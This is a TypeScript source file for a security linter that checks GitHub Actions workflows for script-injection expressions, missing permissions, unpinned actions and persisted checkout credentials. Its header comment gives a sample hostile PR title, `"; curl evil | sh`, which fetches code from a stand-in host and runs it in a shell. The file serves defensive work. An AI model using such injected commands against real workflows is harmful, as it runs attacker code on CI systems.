/**
 * Security policy checks over GitHub Actions workflow files and action metadata files (`action.yml`).
 *
 * Pure functions over YAML text: no file system, no `@actions/*` imports. Every finding points at the
 * offending node with a 1-based line and column.
 *
 * Rules:
 * - `untrusted-expression`: a `${{ … }}` expression inside a shell script (`run:`) or an
 *   `actions/github-script` `script:` input reads attacker-controllable text. Expressions are expanded
 *   into the script text *before* the shell/JavaScript runs, so a PR title such as `"; curl evil | sh`
 *   becomes code. The safe form is `env: { TITLE: ${{ github.event.pull_request.title }} }` and `"$TITLE"`
 *   (or `process.env.TITLE` in github-script). What counts as untrusted:
 *   - the event fields GitHub Security Lab / GitHub's hardening guide list (see {@link UNTRUSTED_CONTEXT_PATHS}),
 *     through any spelling: `a.b`, `a['b']`, `a[0]`, `a[*]`, `a.*.b`, whitespace, any letter case;
 *   - a whole object that contains such fields (`toJSON(github.event)`, `github.event.pull_request`);
 *   - composite actions: every `inputs.*` reference (action inputs are free text chosen by the caller);
 *   - workflows: `inputs.<name>` and `github.event.inputs.<name>` unless every declaration of that input
 *     under `on.workflow_dispatch.inputs` / `on.workflow_call.inputs` has a constrained type (`boolean`,
 *     `number`, `choice`, `environment`). A free-text `string` input is flagged even for `workflow_dispatch`:
 *     a `workflow_call` caller may forward untrusted text into it, and a quote in a dispatch input breaks the
 *     script either way. Undeclared inputs are treated as free text.
 *   References used only as arguments of `contains()`, `startsWith()` or `endsWith()` are not flagged (the
 *   result is a boolean). `steps.*.outputs.*` and `needs.*.outputs.*` are not tracked (no data-flow analysis).
 * - `missing-permissions`: a workflow without a top-level `permissions:` key.
 * - `unpinned-action`: a `uses:` (step, reusable-workflow job, or docker `runs.image`) not pinned to a full
 *   40-hex commit SHA; local `./…` paths and `docker://…@sha256:<64 hex>` digests are fine.
 * - `checkout-credentials`: `actions/checkout` (any ref) without `with: persist-credentials: false`.
 * - `parse-error`: the text is not valid YAML or its root is not a mapping.
 */
import {
  type Document,
  isAlias,
  isMap,
  isScalar,
  isSeq,
  type LineCounter,
  type Node,
  type Scalar,
  type YAMLMap,
} from 'yaml';
import { parseYaml } from '../config/yaml.js';
import { findExpressions, findReferences } from './expressions.js';

export type PolicyRule =
  | 'untrusted-expression'
  | 'missing-permissions'
  | 'unpinned-action'
  | 'checkout-credentials'
  | 'parse-error';

export interface PolicyFinding {
  file: string;
  /** 1-based. */
  line: number;
  /** 1-based. */
  column: number;
  rule: PolicyRule;
  message: string;
}

/**
 * Context paths whose values an outside contributor can choose. `*` stands for any array index / object key.
 * Sources: GitHub Security Lab "Keeping your GitHub Actions and workflows secure Part 2: Untrusted input",
 * GitHub docs "Security hardening for GitHub Actions", actionlint's `BuiltinUntrustedInputs`.
 */
const UNTRUSTED_CONTEXT_PATHS: readonly string[] = [
  'github.event.issue.title',
  'github.event.issue.body',
  'github.event.pull_request.title',
  'github.event.pull_request.body',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.head.repo.default_branch',
  'github.event.comment.body',
  'github.event.review.body',
  'github.event.review_comment.body',
  'github.event.pages.*.page_name',
  'github.event.commits.*.message',
  'github.event.commits.*.author.email',
  'github.event.commits.*.author.name',
  'github.event.head_commit.message',
  'github.event.head_commit.author.email',
  'github.event.head_commit.author.name',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.display_title',
  'github.event.workflow_run.head_commit.message',
  'github.event.workflow_run.head_commit.author.email',
  'github.event.workflow_run.head_commit.author.name',
  'github.event.workflow_run.pull_requests.*.head.ref',
  'github.event.merge_group.head_commit.message',
  'github.event.merge_group.head_commit.author.email',
  'github.event.merge_group.head_commit.author.name',
  'github.event.discussion.title',
  'github.event.discussion.body',
  'github.head_ref',
];

const UNTRUSTED_SEGMENTS: readonly (readonly string[])[] = UNTRUSTED_CONTEXT_PATHS.map((p) => p.split('.'));

/** Workflow input types whose values cannot carry arbitrary text. */
const CONSTRAINED_INPUT_TYPES = new Set(['boolean', 'number', 'choice', 'environment']);

/** Functions whose result is a boolean whatever their arguments. */

const SHA_RE = /^[0-9a-f]{40}$/;
const DOCKER_DIGEST_RE = /@sha256:[0-9a-f]{64}$/;

export function formatFinding(f: PolicyFinding): string {
  return `${f.file}:${f.line}:${f.column} ${f.rule}: ${f.message}`;
}

/** Checks a workflow file (`.github/workflows/*.yml`). */
export function checkWorkflowText(text: string, file: string): PolicyFinding[] {
  const ctx = open(text, file);
  if (!ctx.root) return ctx.findings;
  const { root } = ctx;

  if (!root.has('permissions')) {
    report(
      ctx,
      root,
      'missing-permissions',
      'workflow has no top-level `permissions:`; declare least privilege (e.g. `permissions: { contents: read }`) and widen per job',
    );
  }

  const scope: ScriptScope = { kind: 'workflow', inputTypes: collectWorkflowInputTypes(ctx, root) };
  const jobs = mapAt(ctx, root, 'jobs');
  for (const pair of jobs?.items ?? []) {
    const job = deref(ctx, pair.value);
    if (!isMap(job)) continue;
    const jobUses = deref(ctx, job.get('uses', true));
    if (isScalar(jobUses)) checkUses(ctx, jobUses, undefined);
    checkSteps(ctx, deref(ctx, job.get('steps', true)), scope);
  }
  return sortFindings(ctx.findings);
}

/** Checks an action metadata file (`action.yml`). Composite steps are checked like workflow steps. */
export function checkActionText(text: string, file: string): PolicyFinding[] {
  const ctx = open(text, file);
  if (!ctx.root) return ctx.findings;
  const runs = mapAt(ctx, ctx.root, 'runs');
  if (!runs) return ctx.findings;
  const using = scalarString(deref(ctx, runs.get('using', true)));
  if (using === 'composite') {
    checkSteps(ctx, deref(ctx, runs.get('steps', true)), { kind: 'composite' });
  } else if (using === 'docker') {
    const image = deref(ctx, runs.get('image', true));
    const ref = scalarString(image);
    if (isScalar(image) && ref?.startsWith('docker://') && !DOCKER_DIGEST_RE.test(ref)) {
      report(
        ctx,
        image,
        'unpinned-action',
        `docker image "${ref}" is not pinned to a digest; use docker://image@sha256:<digest>`,
      );
    }
  }
  return sortFindings(ctx.findings);
}

// ---------------------------------------------------------------------------------------------------------
// YAML plumbing

interface Ctx {
  file: string;
  text: string;
  doc: Document.Parsed;
  lines: LineCounter;
  root: YAMLMap | undefined;
  findings: PolicyFinding[];
}

function open(text: string, file: string): Ctx {
  const { doc, lines, errors } = parseYaml(text, file);
  const ctx: Ctx = { file, text, doc, lines, root: undefined, findings: [] };
  for (const { line, column, message } of errors) {
    ctx.findings.push({ file, line, column, rule: 'parse-error', message });
  }
  if (errors.length > 0) return ctx;
  const root = deref(ctx, doc.contents);
  if (isMap(root)) {
    ctx.root = root;
  } else {
    ctx.findings.push({
      file,
      line: 1,
      column: 1,
      rule: 'parse-error',
      message: 'the root is not a mapping',
    });
  }
  return ctx;
}

function deref(ctx: Ctx, node: unknown): unknown {
  return isAlias(node) ? node.resolve(ctx.doc) : node;
}

function mapAt(ctx: Ctx, map: YAMLMap, key: string): YAMLMap | undefined {
  const v = deref(ctx, map.get(key, true));
  return isMap(v) ? v : undefined;
}

function scalarString(node: unknown): string | undefined {
  if (!isScalar(node)) return undefined;
  const v = node.value;
  return typeof v === 'string' ? v : v == null ? undefined : String(v);
}

function position(ctx: Ctx, offset: number): { line: number; column: number } {
  const { line, col } = ctx.lines.linePos(offset);
  return { line, column: col };
}

function report(ctx: Ctx, node: Node | undefined, rule: PolicyRule, message: string, offset?: number): void {
  const at = offset ?? node?.range?.[0] ?? 0;
  ctx.findings.push({ file: ctx.file, ...position(ctx, at), rule, message });
}

function sortFindings(findings: PolicyFinding[]): PolicyFinding[] {
  return findings.sort((a, b) => a.line - b.line || a.column - b.column || a.rule.localeCompare(b.rule));
}

// ---------------------------------------------------------------------------------------------------------
// Steps

type ScriptScope = { kind: 'composite' } | { kind: 'workflow'; inputTypes: Map<string, Set<string>> };

function checkSteps(ctx: Ctx, steps: unknown, scope: ScriptScope): void {
  if (!isSeq(steps)) return;
  for (const item of steps.items) {
    const step = deref(ctx, item);
    if (!isMap(step)) continue;
    const withMap = mapAt(ctx, step, 'with');

    const run = deref(ctx, step.get('run', true));
    if (isScalar(run)) checkScript(ctx, run, scope, 'run:');

    const uses = deref(ctx, step.get('uses', true));
    if (!isScalar(uses)) continue;
    checkUses(ctx, uses, withMap);
    const action = actionName(scalarString(uses) ?? '');
    if (action === 'actions/github-script' && withMap) {
      const script = deref(ctx, withMap.get('script', true));
      if (isScalar(script)) checkScript(ctx, script, scope, 'actions/github-script `script:`');
    }
  }
}

/** `owner/repo` of a `uses:` value, lower-cased; `undefined` for local and docker references. */
function actionName(uses: string): string | undefined {
  if (uses.startsWith('./') || uses.startsWith('docker://')) return undefined;
  const [owner, repo] = uses.split('@', 1)[0]?.split('/') ?? [];
  return owner && repo ? `${owner}/${repo}`.toLowerCase() : undefined;
}

function checkUses(ctx: Ctx, node: Scalar, withMap: YAMLMap | undefined): void {
  const uses = (scalarString(node) ?? '').trim();
  if (uses.startsWith('./')) return;
  if (uses.startsWith('docker://')) {
    if (!DOCKER_DIGEST_RE.test(uses)) {
      report(
        ctx,
        node,
        'unpinned-action',
        `"${uses}" is not pinned to a digest; use docker://image@sha256:<digest>`,
      );
    }
    return;
  }
  const at = uses.lastIndexOf('@');
  const ref = at >= 0 ? uses.slice(at + 1) : '';
  if (!SHA_RE.test(ref)) {
    const what = ref ? `ref "${ref}"` : 'no ref';
    report(
      ctx,
      node,
      'unpinned-action',
      `"${uses}" uses ${what}; pin it to a full 40-character commit SHA (keep the tag in a comment)`,
    );
  }
  if (actionName(uses) === 'actions/checkout') {
    const persist = withMap ? deref(ctx, withMap.get('persist-credentials', true)) : undefined;
    const value = isScalar(persist) ? persist.value : undefined;
    if (value !== false && value !== 'false') {
      report(
        ctx,
        node,
        'checkout-credentials',
        'actions/checkout keeps the token in .git/config; set `with: persist-credentials: false`',
      );
    }
  }
}

function collectWorkflowInputTypes(ctx: Ctx, root: YAMLMap): Map<string, Set<string>> {
  const types = new Map<string, Set<string>>();
  const on = mapAt(ctx, root, 'on');
  if (!on) return types;
  for (const trigger of ['workflow_dispatch', 'workflow_call']) {
    const t = mapAt(ctx, on, trigger);
    const inputs = t ? mapAt(ctx, t, 'inputs') : undefined;
    for (const pair of inputs?.items ?? []) {
      const name = scalarString(deref(ctx, pair.key))?.toLowerCase();
      if (!name) continue;
      const def = deref(ctx, pair.value);
      const type = isMap(def) ? (scalarString(deref(ctx, def.get('type', true))) ?? 'string') : 'string';
      const set = types.get(name) ?? new Set<string>();
      set.add(type.toLowerCase());
      types.set(name, set);
    }
  }
  return types;
}

// ---------------------------------------------------------------------------------------------------------
// Expressions

function checkScript(ctx: Ctx, node: Scalar, scope: ScriptScope, where: string): void {
  const value = scalarString(node);
  if (!value?.includes('${{')) return;
  const raw = node.range ? ctx.text.slice(node.range[0], node.range[1]) : '';
  let rawCursor = 0;
  for (const expr of findExpressions(value)) {
    // Map the expression back to the source: verbatim in plain and literal scalars; a folded scalar may have
    // turned line breaks into spaces. Fall back to the start of the scalar.
    let exprOffset: number | undefined;
    let verbatim = false;
    const exact = raw.indexOf(expr.text, rawCursor);
    if (exact >= 0) {
      exprOffset = exact;
      verbatim = true;
    } else {
      const loose = new RegExp(expr.text.split(/\s+/).map(escapeRegExp).join('\\s+')).exec(
        raw.slice(rawCursor),
      );
      if (loose) exprOffset = rawCursor + loose.index;
    }
    if (exprOffset !== undefined) rawCursor = exprOffset + 1;

    for (const ref of findReferences(expr.body)) {
      const why = untrustedReason(ref.segments, scope);
      if (!why) continue;
      const base = node.range?.[0] ?? 0;
      const offset =
        exprOffset === undefined ? base : base + exprOffset + (verbatim ? expr.bodyStart + ref.start : 0);
      report(
        ctx,
        node,
        'untrusted-expression',
        `${why} is expanded into ${where}; pass it through \`env:\` and reference the variable instead`,
        offset,
      );
    }
  }
}

function escapeRegExp(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

/** Why a reference is untrusted in this scope, or `undefined` if it is not. */
function untrustedReason(segments: string[], scope: ScriptScope): string | undefined {
  const path = segments.join('.');
  const isEventInputs = segments[0] === 'github' && segments[1] === 'event' && segments[2] === 'inputs';
  if (segments[0] === 'inputs' || isEventInputs) {
    const name = segments[isEventInputs ? 3 : 1];
    if (scope.kind === 'composite') return `action input \`${path}\` (caller-controlled text)`;
    if (name === undefined || name === '*') return `\`${path}\` (workflow inputs, free text)`;
    const types = scope.inputTypes.get(name);
    if (types && [...types].every((t) => CONSTRAINED_INPUT_TYPES.has(t))) return undefined;
    return `free-text workflow input \`${path}\``;
  }
  for (const pattern of UNTRUSTED_SEGMENTS) {
    const n = Math.min(pattern.length, segments.length);
    let ok = true;
    for (let k = 0; k < n && ok; k++) {
      const s = segments[k];
      const p = pattern[k];
      ok = s === p || s === '*' || p === '*';
    }
    if (!ok) continue;
    if (segments.length >= pattern.length) return `untrusted \`${pattern.join('.')}\``;
    return `\`${path}\` (contains untrusted \`${pattern.join('.')}\`)`;
  }
  return undefined;
}
